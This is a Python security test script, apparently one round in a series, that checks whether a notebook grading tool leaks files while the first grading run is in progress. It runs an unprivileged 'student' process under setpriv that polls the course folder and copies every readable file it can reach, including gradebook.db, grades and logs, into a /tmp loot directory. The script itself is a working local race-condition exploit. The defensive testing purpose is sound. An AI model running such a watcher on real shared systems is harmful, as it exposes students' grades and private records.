"""A01: a local student (eve48, uid 2481) polls the course folder while the TA (uid 65534) grades it for the first time,
and copies whatever she can read: gradebook.db, feedback pages, autograded notebooks, grades.csv, logs, .nbgrader.log.
Round 47's fix makes the outputs private at the start and the end of each run: what about the middle?"""
import os, subprocess, sys, time, threading, sqlite3
sys.path.insert(0, os.path.dirname(__file__))
from harness import *

d = course("a01")
os.chmod(d, 0o755)
for c in ("aaron", "mallory", "zoe"):
    hand_in(d, c, "ps1_memory", nb_for("ps1_memory"))
watch = r'''
import os, sys, time, shutil
d, out = sys.argv[1], sys.argv[2]
os.makedirs(out, exist_ok=True)
seen = {}
t0 = time.time()
while time.time() - t0 < 240 and not os.path.exists(out + "/STOP"):
    for root, dirs, files in os.walk(d):
        for f in files:
            p = os.path.join(root, f)
            try:
                b = open(p, "rb").read()
            except Exception:
                continue
            k = p.replace("/", "_")
            if k not in seen:
                seen[k] = (round(time.time() - t0, 1), len(b))
                open(os.path.join(out, k), "wb").write(b)
    time.sleep(0.05)
for k, v in sorted(seen.items(), key=lambda kv: kv[1]):
    print(v, k)
'''
out = "/tmp/eve48-loot-a01"
subprocess.run(["rm", "-rf", out])
open("/tmp/eve48-watch.py", "w").write(watch)
w = subprocess.Popen(["setpriv", "--reuid", "2481", "--regid", "2481", "--clear-groups", sys.executable, "/tmp/eve48-watch.py", d, out],
                     stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
time.sleep(1)
r = grade(d, "ps1_memory", quiet=True)
print(r.stderr[-1500:])
sc = scores(d, "ps1_memory")
open(out + "/STOP", "w").close() if os.access(out, os.W_OK) else None
subprocess.run(["setpriv", "--reuid", "2481", "--regid", "2481", "--clear-groups", "touch", out + "/STOP"])
print("eve48 read (t seconds after start, bytes, path):")
print(w.communicate()[0][-6000:])
for k in os.listdir(out):
    if k.endswith("gradebook.db"):
        try:
            db = sqlite3.connect(os.path.join(out, k))
            print("eve's copy of gradebook.db, grades:", db.execute("select count(*) from grade").fetchall(),
                  db.execute("select student.id from student").fetchall())
        except Exception as e:
            print("gradebook copy", e)
print("modes now:", {n: oct(os.stat(os.path.join(d, n)).st_mode & 0o777) for n in os.listdir(d)})
leaks(d)
